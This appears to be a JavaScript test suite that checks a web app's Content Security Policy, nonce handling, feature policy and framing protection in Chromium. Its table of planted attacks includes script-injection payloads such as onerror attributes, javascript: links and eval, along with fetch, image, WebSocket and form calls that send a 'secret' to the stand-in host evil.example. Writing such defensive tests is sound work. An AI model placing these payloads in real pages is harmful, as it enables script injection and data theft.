// The content policy in Chromium: should markup of a stranger ever get into a page, nothing of it runs, loads or leads away.
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { open } from "./harness.mjs";

let house;
before(async () => { house = await open(); });
after(() => house.stop());

const PLANTED = {
  "an inline script": ["script-src", (body) => { const node = document.createElement("script"); node.textContent = "window.hit = 1"; body.append(node); }],
  "a script of ours without the nonce": ["script-src", (body) => { const node = document.createElement("script"); node.src = "/static/dist/palaver.js"; body.append(node); }],
  "a script with a made-up nonce": ["script-src", (body) => { const node = document.createElement("script"); node.nonce = "guessed"; node.textContent = "window.hit = 1"; body.append(node); }],
  "a script of an upload": ["script-src", (body) => { const node = document.createElement("script"); node.src = "/documents/d-1/original"; body.append(node); }],
  "a script as data": ["script-src", (body) => { const node = document.createElement("script"); node.src = "data:text/javascript,window.hit=1"; body.append(node); }],
  "an attribute": ["script-src", (body) => { body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hit = 1'>"); }],
  "an address that is script": ["script-src", (body) => { body.insertAdjacentHTML("beforeend", "<a id=planted href='javascript:window.hit = 1'>x</a>"); document.getElementById("planted").click(); }],
  "text as script": ["script-src", () => { setTimeout(() => { try { eval("window.hit = 1"); } catch { /* refused */ } }); }],
  "a style": ["style-src", (body) => { const node = document.createElement("style"); node.textContent = "body { display: none }"; body.append(node); }],
  "a style of an attribute": ["style-src", (body) => { body.insertAdjacentHTML("beforeend", "<p style='position: fixed; inset: 0'>x</p>"); }],
  "a style sheet of a stranger": ["style-src", (body) => { body.insertAdjacentHTML("beforeend", "<link rel=stylesheet href='https://evil.example/x.css'>"); }],
  "a picture that tells": ["img-src", (body) => { body.insertAdjacentHTML("beforeend", "<img src='https://evil.example/leak.png?secret'>"); }],
  "a request that tells": ["connect-src", () => { fetch("https://evil.example/?secret").catch(() => {}); }],
  "a socket that tells": ["connect-src", () => { try { new WebSocket("wss://evil.example/"); } catch { /* refused */ } }],
  "a frame": ["frame-src", (body) => { body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example'></iframe>"); }],
  "an object": ["object-src", (body) => { body.insertAdjacentHTML("beforeend", "<object data='https://evil.example/x.swf'></object>"); }],
  "a base": ["base-uri", () => { document.head.insertAdjacentHTML("beforeend", "<base href='https://evil.example/'>"); }],
  "a form that sends away": ["form-action", (body) => { body.insertAdjacentHTML("beforeend", "<form id=sent method=post action='https://evil.example/'></form>"); document.getElementById("sent").requestSubmit(); }],
};

for (const [name, [directive, plant]] of Object.entries(PLANTED)) {
  test(`${name} is stopped`, async () => {
    const page = await house.page("/bots");
    const left = [];
    page.on("requestfailed", (request) => { if (request.failure().errorText !== "csp") left.push(request.url()); });
    await page.evaluate(() => {
      window.broken = [];
      document.addEventListener("securitypolicyviolation", (event) => window.broken.push(event.effectiveDirective));
    });
    await page.evaluate(`(${plant})(document.body)`).catch(() => {});
    await page.waitForFunction(() => window.broken.length > 0);
    const broken = await page.evaluate(() => window.broken);
    assert.ok(broken.every((each) => each.startsWith(directive)), broken.join());
    assert.equal(await page.evaluate(() => window.hit), undefined);
    assert.deepEqual(left, []);
    assert.ok(page.url().startsWith(house.base));
    await page.close();
  });
}

test("a page keeps its nonce to itself", async () => {
  const page = await house.page("/bots");
  const told = await page.evaluate(() => [...document.querySelectorAll("[nonce]")].map((node) => node.getAttribute("nonce")));
  assert.deepEqual([told.length > 1, [...new Set(told)]], [true, [""]]);
  const nonces = await page.evaluate(() => [...document.querySelectorAll("[nonce]")].map((node) => node.nonce));
  assert.equal(new Set(nonces).size, 1);
  await page.reload();
  assert.notEqual(await page.evaluate(() => document.querySelector("[nonce]").nonce), nonces[0]);
  assert.deepEqual(page.wrong, []);
  await page.close();
});

test("no page has the camera, the microphone, the screen or the place", async () => {
  const page = await house.page("/");
  const open = await page.evaluate(() => ["camera", "microphone", "display-capture", "geolocation"].filter((name) => document.featurePolicy.allowsFeature(name)));
  assert.deepEqual(open, []);
  await page.close();
});

test("no other site frames a page", async () => {
  const page = await house.page("/login");
  const framed = await house.browser.newPage();
  await framed.setContent(`<iframe src="${house.base}/login"></iframe>`);
  await framed.waitForTimeout(300);
  assert.equal(await framed.frames()[1].locator("form").count().catch(() => 0), 0);
  await framed.close();
  await page.close();
});
